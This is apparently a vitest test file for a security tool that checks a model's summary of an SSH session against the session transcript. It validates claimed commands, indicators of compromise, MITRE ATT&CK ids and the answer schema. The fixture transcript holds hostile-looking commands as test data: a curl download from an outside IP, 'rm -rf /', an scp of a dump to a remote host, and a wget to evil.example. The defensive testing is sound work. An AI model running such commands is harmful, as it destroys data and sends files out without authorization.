import { describe, expect, test } from "vitest";
import type { Answer } from "../../src/summarize/answer.ts";
import { answerSchema, readAnswer } from "../../src/summarize/answer.ts";
import { checkClaims, Evidence } from "../../src/summarize/claims.ts";
import { answer } from "../answers.ts";
import { transcriptOf } from "../transcripts.ts";

const transcript = transcriptOf("ssh", [
  "ls",
  ["curl -o x http://203.0.113.9/x", { output: "saved to x\nsha256 abc123", end: 14_500 }],
  "cat <<EOF > y\nrm -rf /\nEOF",
  "ls",
  ["vim ~/.ssh/config", { marks: [{ type: "deleted-input", text: "scp dump bob@198.51.100.7:" }] }],
]);

function read(more: Readonly<Record<string, unknown>>): Answer {
  const read = readAnswer({ text: JSON.stringify({ ...answer, ...more }), cutOff: false });
  if ("wrong" in read) throw new Error(read.wrong);
  return read;
}

function check(more: Readonly<Record<string, unknown>>) {
  return checkClaims(read(more), new Evidence(transcript));
}

describe("a command", () => {
  // biome-ignore format: table
  test.each<readonly [claim: Record<string, unknown>, entry: number | undefined]>([
    [{ index: 1, command: "curl -o x http://203.0.113.9/x" },  1],
    [{ index: 1, command: "curl  -o x   http://203.0.113.9/x" }, 1],
    [{ index: 1, command: "http://203.0.113.9/x" },            1],
    [{ index: 0, command: "curl -o x http://203.0.113.9/x" },  1],
    [{ index: 99, command: "curl -o x http://203.0.113.9/x" }, 1],
    [{ index: -1, command: "vim ~/.ssh/config" },              4],
    [{ command: "rm -rf /" },                                  2],
    [{ index: 2, command: "rm -rf /" },                        2],
    [{ index: null, command: "ls" },                           0],
    [{ command: "ls", offset: "[00:30]" },                     3],
    [{ index: 3, command: "ls" },                              3],
    [{ index: 1, command: "rm -rf /etc" },                     undefined],
    [{ command: "http://203.0.113.9/x" },                      undefined],
    [{ index: 1, command: "" },                                undefined],
    [{ index: 1, command: "  " },                              undefined],
    [{ index: 1, command: "saved to x" },                      undefined],
    [{ index: 7, command: "wget http://evil.example" },        undefined],
  ])("%j", async (claim, entry) => {
    const { notableCommands, dropped } = await check({ notable_commands: [{ reason: "r", ...claim }] });
    expect(notableCommands.map((found) => found.entry)).toEqual(entry === undefined ? [] : [entry]);
    expect(dropped).toBe(entry === undefined ? 1 : 0);
  });

  test("has the transcript's own times, whatever the model says", async () => {
    const claim = { index: 1, offset: "99:99", command: "curl -o x http://203.0.113.9/x", reason: "r" };
    const { notableCommands } = await check({ notable_commands: [claim] });
    expect(notableCommands).toMatchObject([{ at: 10_000, end: 14_500 }]);
  });

  test("has a category, tactics and ids of techniques that exist; what is none is left out", async () => {
    const claim = { index: 0, command: "ls", reason: "r" };
    const { notableCommands } = await check({
      notable_commands: [
        {
          ...claim,
          category: "NETWORK",
          risk_level: "HIGH",
          threat_categories: ["NONE", "EXFILTRATION"],
          mitre_attack_ids: ["T1048", "T1552.001", "T1048", "1048", "<b>"],
        },
        { ...claim, category: "SPYING", risk_level: "EXTREME", threat_categories: ["WORLD_DOMINATION"] },
      ],
    });
    const [known, odd] = notableCommands;
    expect(known).toMatchObject({
      category: "NETWORK",
      riskLevel: "HIGH",
      tactics: ["EXFILTRATION"],
      attackIds: ["T1048", "T1552.001"],
    });
    expect(odd).toMatchObject({ category: "OTHER", riskLevel: undefined, tactics: ["NONE"], attackIds: [] });
  });
});

describe("items", () => {
  // biome-ignore format: table
  test.each<readonly [item: Record<string, unknown>, entry: number | undefined]>([
    [{ type: "ip", value: "203.0.113.9", index: 1 },       1],
    [{ type: "ip", value: "203.0.113.9" },                 1],
    [{ type: "ip", value: "203.0.113.9", index: 40 },      1],
    [{ type: "hash", value: "abc123", index: 1 },          1],
    [{ type: "ip", value: "198.51.100.7", index: 4 },      4],
    [{ type: "ip", value: "192.0.2.1", index: 1 },         undefined],
    [{ type: "ip", value: "", index: 1 },                  undefined],
  ])("%j", async (item, entry) => {
    const { indicators, sensitiveItems, dropped } = await check({
      notable_commands: [],
      compromise_indicators: [item],
      sensitive_items: [item],
    });
    expect([indicators.map((found) => found.entry), sensitiveItems.map((found) => found.entry)]).toEqual(
      entry === undefined ? [[], []] : [[entry], [entry]],
    );
    expect(dropped).toBe(entry === undefined ? 2 : 0);
  });
});

test("what looks wrong is about an entry that there is, or about the session", async () => {
  const claims = [
    { activity: "a", index: 4 },
    { activity: "b", index: null },
    { activity: "c", index: 5 },
    { activity: "d", index: -1 },
  ];
  const { suspicions, dropped } = await check({ notable_commands: [], suspicious_activities: claims });
  expect(suspicions).toEqual([
    { activity: "a", moment: { entry: 4, at: 40_000 } },
    { activity: "b", moment: undefined },
  ]);
  expect(dropped).toBe(2);
});

test("of each sort a hundred are looked at; the rest counts as dropped", async () => {
  const claims = Array.from({ length: 150 }, () => ({ activity: "a", index: 1 }));
  const { suspicions, dropped } = await check({ notable_commands: [], suspicious_activities: claims });
  expect([suspicions.length, dropped]).toEqual([100, 50]);
});

describe("answers", () => {
  // biome-ignore format: table
  test.each<readonly [what: string, text: string, wrong: RegExp]>([
    ["no JSON",             "Alice did this.",                                    /not JSON/],
    ["half of one",         '{"title": "x',                                       /not JSON/],
    ["a list",              "[]",                                                 /expected object/],
    ["nothing",             "",                                                   /not JSON/],
    ["a field too few",     JSON.stringify({ ...answer, title: undefined }),      /title/],
    ["a field too many",    JSON.stringify({ ...answer, verdict: "fine" }),       /verdict/],
    ["another level",       JSON.stringify({ ...answer, risk_level: "NONE" }),    /risk_level/],
    ["more than anybody reads", JSON.stringify({ ...answer, title: "x".repeat(1_000_000) }), /longer than 1,000,000/],
    ["a fractional index",  JSON.stringify({ ...answer, notable_commands: [{ index: 0.5, command: "ls", reason: "r" }] }), /index/],
  ])("%s", (_, text, wrong) => {
    expect(readAnswer({ text, cutOff: false })).toEqual({ wrong: expect.stringMatching(wrong) });
  });

  test("what is wrong is told in short, however much there is", () => {
    const text = JSON.stringify({ ...answer, risk_reasons: Array.from({ length: 1000 }, () => ({})) });
    const read = readAnswer({ text, cutOff: false });
    expect("wrong" in read && read.wrong.length).toBe(2000);
  });

  test("the schema is strict as services want it: every field required, no others, no bounds", () => {
    const objects: Record<string, unknown>[] = [];
    const visit = (node: unknown): void => {
      if (typeof node !== "object" || node === null) return;
      if ("properties" in node) objects.push(node as Record<string, unknown>);
      for (const value of Object.values(node)) visit(value);
    };
    visit(answerSchema);
    expect(objects.length).toBeGreaterThan(4);
    for (const { properties, required, additionalProperties } of objects) {
      expect(additionalProperties).toBe(false);
      expect(required).toEqual(Object.keys(properties as object));
    }
    expect(JSON.stringify(answerSchema)).not.toMatch(/"(minimum|maximum|pattern|default|\$schema)"/);
  });
});
